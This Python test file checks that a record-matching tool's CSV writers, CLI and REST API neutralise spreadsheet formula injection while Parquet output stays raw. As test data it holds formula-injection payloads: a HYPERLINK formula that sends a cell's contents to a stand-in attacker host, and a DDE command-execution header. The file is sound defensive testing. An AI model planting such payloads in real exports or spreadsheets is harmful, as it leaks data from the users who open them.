"""Spreadsheet formula injection (issue 15): every CSV a user gets prefixes formula-like text cells with ``'``,
Parquet stays raw, uploads keep a tab-guarded value as sent, and our own labels files round-trip on import.

Through the writers, the ``matcher`` CLI and the REST API with its task runs executed in-process (as a worker
would, see test_api_clusters).
"""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pyarrow as pa
import pytest
from api_support import Api, people_frame, sqlite_api
from cli_support import run
from sqlalchemy import select

from matcher.csv_safety import neutralise, neutralise_arrow, neutralise_frame, restore
from matcher.io import read_raw_table, to_arrow, write_table
from matcher.labels import read_labels
from services import engine
from storage.artifacts import ArtifactStore
from storage.models import Label

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
FORMULAS = [HYPERLINK, "+1+2", "-2+3", "@SUM(A1)", "\t=1+1", "\r=1", "'=already", "''+twice", "-3\n"]
HARMLESS = ["-3.5", "+44", "1e-3", "-.5", "plain", "", "it's", "'quoted", "a=b", " -x"]


def cells(path: Path) -> list[list[str]]:
    """The cells a spreadsheet would see (the csv module, no cleaning)."""
    with open(path, newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


# -- the rule -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("value", FORMULAS + HARMLESS + ["'", "'-3.5", "-", "=", "'\t=1"])
def test_neutralise_then_restore_gives_the_value_back(value: str) -> None:
    assert restore(neutralise(value)) == value


def test_formulas_get_a_quote_and_numbers_or_text_do_not() -> None:
    assert [neutralise(v) for v in FORMULAS] == ["'" + v for v in FORMULAS]
    assert [neutralise(v) for v in HARMLESS] == HARMLESS


def test_the_arrow_path_agrees_with_the_scalar_rule_on_chunks_slices_and_nulls() -> None:
    values = FORMULAS + HARMLESS + [None]
    chunked = pa.chunked_array([values[:5], values[5:]])
    expected = [None if v is None else neutralise(v) for v in values]
    assert neutralise_arrow(chunked).to_pylist() == expected
    assert neutralise_arrow(pa.array(values).slice(3)).to_pylist() == expected[3:]
    untouched = pa.array(HARMLESS)
    assert neutralise_arrow(untouched) is untouched  # the usual case builds nothing


# -- the writers ----------------------------------------------------------------------------------------------


FRAMES = {
    "fast writer": pd.DataFrame({"id": ["a", "b", "c", "d"], "name": ["=1+1", "-3.5", "@x", None],
                                 "score": [-3.5, 0.5, np.nan, 1.0]}),
    "pandas writer (quotes)": pd.DataFrame({"id": ["a", "b"], "name": [HYPERLINK, "Smith, John"],
                                            "n": [-1, 2]}),
    "pandas writer (tab and CR)": pd.DataFrame({"id": ["a", "b"], "name": ["\t=1+1", "\r=1"]}),
    "formula header": pd.DataFrame({"id": ["a"], "=cmd|' /C calc'!A0": ["+x"]}),
}


@pytest.mark.parametrize("frame", FRAMES.values(), ids=FRAMES.keys())
def test_every_csv_writer_neutralises_text_cells_only_and_parquet_stays_raw(tmp_path: Path,
                                                                            frame: pd.DataFrame) -> None:
    expected = neutralise_frame(frame).to_csv(index=False, lineterminator="\n").encode()
    table = to_arrow(frame)
    assert table is not None
    for data, name in ((frame, "frame.csv"), (table, "arrow.csv")):
        write_table(data, tmp_path / name)
        assert (tmp_path / name).read_bytes() == expected, name
    write_table(table, tmp_path / "raw.parquet")
    pd.testing.assert_frame_equal(pd.read_parquet(tmp_path / "raw.parquet"), frame)


def test_negative_numbers_stay_numbers_in_numeric_and_text_columns(tmp_path: Path) -> None:
    frame = FRAMES["fast writer"]
    write_table(frame, tmp_path / "out.csv")
    rows = cells(tmp_path / "out.csv")
    assert rows[1:] == [["a", "'=1+1", "-3.5"], ["b", "-3.5", "0.5"], ["c", "'@x", ""], ["d", "", "1.0"]]


# -- the CLI --------------------------------------------------------------------------------------------------


@pytest.fixture
def formula_people(tmp_path: Path) -> Path:
    """30 people with formula-like values, written with plain quoting (what a user would upload)."""
    frame = people_frame(30)
    frame.loc[0, "given_name"] = HYPERLINK
    frame.loc[1, "surname"] = "@SUM(1+1)"
    frame.loc[2, "id"] = "-r2"
    frame.loc[3, "city"] = "\t=1+1"
    frame.loc[4, "phone"] = "+44 7905 501699"
    path = tmp_path / "people.csv"
    frame.to_csv(path, index=False)
    return path


def test_matcher_match_and_labeling_set_outputs_are_neutralised(capsys: pytest.CaptureFixture[str],
                                                                 tmp_path: Path, formula_people: Path) -> None:
    out, pairs, sets = tmp_path / "matches.csv", tmp_path / "pairs.csv", tmp_path / "sets.csv"
    code, _, err = run(capsys, "match", formula_people, "--primary-key", "id", "--output", out,
                       "--pairs-output", pairs, "--pairs-min-probability", "0", "--quiet")
    assert code == 0, err
    by_id = {row[0]: row for row in cells(out)[1:]}
    assert by_id["r0000000"][1] == "'" + HYPERLINK and by_id["r0000001"][2] == "'@SUM(1+1)"
    assert "'-r2" in by_id and by_id["r0000003"][5] == "'\t=1+1"  # the upload's guarding tab was kept
    assert by_id["r0000004"][8] == "'+44 7905 501699"
    header = cells(pairs)[0]
    contributions = [i for i, name in enumerate(header) if name.endswith("_contribution")]
    values = [row[i] for row in cells(pairs)[1:] for i in contributions if row[i]]
    assert any(v.startswith("-") for v in values)  # negative log odds stay numbers
    assert any(row[header.index("key_a")] == "'-r2" or row[header.index("key_b")] == "'-r2"
               for row in cells(pairs)[1:])
    code, _, err = run(capsys, "labeling-set", formula_people, "--primary-key", "id", "--num-sets", "30",
                       "--set-size", "2", "--output", sets, "--quiet")
    assert code == 0, err
    written = cells(sets)
    assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for row in written for cell in row)


def test_our_labeling_file_with_formula_labels_round_trips_through_the_cli(
        capsys: pytest.CaptureFixture[str], tmp_path: Path, formula_people: Path) -> None:
    """Labels typed into our labeling file (as Excel would store text starting with '), read back exactly."""
    sets = tmp_path / "sets.csv"
    assert run(capsys, "labeling-set", formula_people, "--primary-key", "id", "--num-sets", "1",
               "--set-size", "4", "--output", sets, "--quiet")[0] == 0
    rows = cells(sets)
    keys = [restore(row[2]) for row in rows[1:]]
    labels = ["=1+1", "=1+1", "-x", "@y"]
    for row, label in zip(rows[1:], labels, strict=False):
        row[1] = neutralise(label)
    with open(sets, "w", newline="", encoding="utf-8") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    read = read_labels(sets, "id", known_keys=read_raw_table(formula_people).frame["id"])
    assert dict(zip(read.rows["key"], read.rows["label"], strict=True)) == dict(
        zip(keys, labels, strict=False))
    code, _, err = run(capsys, "match", formula_people, "--primary-key", "id", "--labels", sets, "--output",
                       tmp_path / "m.csv", "--quiet")
    assert code == 0, err


def test_a_tab_guarded_formula_is_read_as_uploaded(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_bytes(b'id,v\n1,"\t=1+1"\n2,"\t plain "\n3,"\r=2 "\n')
    assert read_raw_table(path).frame["v"].tolist() == ["\t=1+1", "plain", "\r=2"]


# -- the REST API ----------------------------------------------------------------------------------------------


@pytest.fixture
def api(tmp_path: Path) -> Api:
    return sqlite_api(tmp_path)


def execute(api: Api, run: dict[str, Any]) -> None:
    assert engine.execute(api.db, ArtifactStore(api.config.data_dir), run["id"]) == "SUCCEEDED"


def start(api: Api, tid: str, task_type: str, **params: Any) -> dict[str, Any]:
    response = api.call("POST", f"/transforms/{tid}/task-runs", json={"type": task_type, "params": params})
    assert response.status_code == 202, response.get_json()
    run = response.get_json()
    execute(api, run)
    return run


def test_files_from_the_api_are_neutralised_and_labels_round_trip(api: Api, formula_people: Path) -> None:
    uploaded = api.upload(formula_people.read_bytes())
    assert uploaded.status_code == 201, uploaded.get_json()
    dataset = uploaded.get_json()
    assert dataset["preview"][3]["city"] == "\t=1+1"  # kept as uploaded, tab included
    tid = api.call("POST", "/transforms", json={"name": "f", "dataset_id": dataset["id"],
                                                "primary_key": "id"}).get_json()["id"]

    sets = start(api, tid, "LABELING_SET_GENERATION", num_sets=30, set_size=2)
    sheet = api.call("GET", f"/task-runs/{sets['id']}/output").get_data(as_text=True)
    sheet_cells = [c for row in csv.reader(io.StringIO(sheet)) for c in row]
    assert not [c for c in sheet_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert all(c == "'" + HYPERLINK for c in sheet_cells if HYPERLINK in c)

    keys = ["r0000000", "r0000001", "-r2", "r0000003"]
    labels = [HYPERLINK, HYPERLINK, "-x", "@me"]
    saved = api.call("POST", f"/transforms/{tid}/labeling-sets", api.labeler,
                     json={"records": keys, "labels": labels})
    assert saved.status_code in (200, 201), saved.get_json()
    export = start(api, tid, "EXPORT_LABELS")
    exported = api.call("GET", f"/task-runs/{export['id']}/output").get_data()
    rows = list(csv.DictReader(io.StringIO(exported.decode())))
    assert {r["label"] for r in rows} == {"'" + HYPERLINK, "'-x", "'@me"}
    assert {r["id"] for r in rows} == {"r0000000", "r0000001", "'-r2", "r0000003"}
    assert {r["city"] for r in rows if r["id"] == "r0000003"} == {"'\t=1+1"}

    imported = api.call("POST", f"/transforms/{tid}/labels", data={
        "file": (io.BytesIO(exported), "labels.csv"), "replace": "true"}, content_type="multipart/form-data")
    assert imported.status_code == 202, imported.get_json()
    execute(api, imported.get_json())
    with api.db.session() as session:
        stored = dict(session.execute(select(Label.record_key, Label.label)).all())
    assert stored == dict(zip(keys, labels, strict=True))

    matches = start(api, tid, "FIND_MATCHES")
    text = api.call("GET", f"/task-runs/{matches['id']}/output").get_data(as_text=True)
    by_id = {row["id"]: row for row in csv.DictReader(io.StringIO(text))}
    assert by_id["r0000000"]["given_name"] == "'" + HYPERLINK and "'-r2" in by_id
    assert by_id["r0000004"]["phone"] == "'+44 7905 501699"
    raw = pd.read_parquet(io.BytesIO(api.call("GET", f"/task-runs/{matches['id']}/output?format=parquet")
                                     .get_data()))
    assert raw.loc[raw["id"] == "r0000000", "given_name"].item() == HYPERLINK
    assert raw.loc[raw["id"] == "r0000003", "city"].item() == "\t=1+1"
